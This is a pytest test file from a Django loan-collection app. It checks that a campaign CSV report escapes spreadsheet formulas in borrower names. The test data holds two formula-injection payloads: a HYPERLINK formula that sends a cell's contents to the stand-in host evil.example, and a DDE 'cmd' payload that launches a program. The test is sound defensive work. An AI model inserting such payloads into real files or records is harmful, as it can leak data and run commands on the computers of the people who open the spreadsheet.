"""Issue #21 item 4: the campaign report (CSV) never hands a spreadsheet a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from recupera.agreements import services
from recupera.core.models import OperatingDate
from recupera.people.models import Person

from .conftest import AS_OF

pytestmark = pytest.mark.django_db


def test_campaign_csv_neutralises_formula_names(make_credit, portfolio_officer,
                                                client_for):
    import datetime as dt

    OperatingDate.objects.update_or_create(pk=1, defaults={"business_date": AS_OF})
    credit = make_credit(amounts=("12000.00",), disbursed_on=dt.date(2023, 1, 15), term_months=12,
                         first_due_date=dt.date(2024, 1, 15), as_of=AS_OF)
    Person.objects.filter(pk=credit.borrower_id).update(
        first_name='=HYPERLINK("http://evil.example/?x="&A1)', last_name="+cmd|' /C calc'!A0",
        second_last_name="")
    credit.borrower.refresh_from_db()
    campaign = services.campaign_create(actor=portfolio_officer, name="Regulariza 2024",
                                        starts_on=dt.date(2024, 6, 1), ends_on=dt.date(2024, 7, 31),
                                        dpd_min=90, dpd_max=365, late_interest_pct=100)
    services.campaign_apply(actor=portfolio_officer, campaign=campaign, as_of=AS_OF)
    response = client_for(portfolio_officer).get(reverse("agreements:campaign_csv", args=[campaign.pk]))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][0] == credit.folio
    name = rows[1][1]
    assert name == "'" + credit.borrower.full_name and name.startswith("'=HYPERLINK(")
    # Money stays numeric and the total row is unchanged.
    assert rows[-1] == ["TOTAL", "", "", "", "", "118.78", "0.00"]
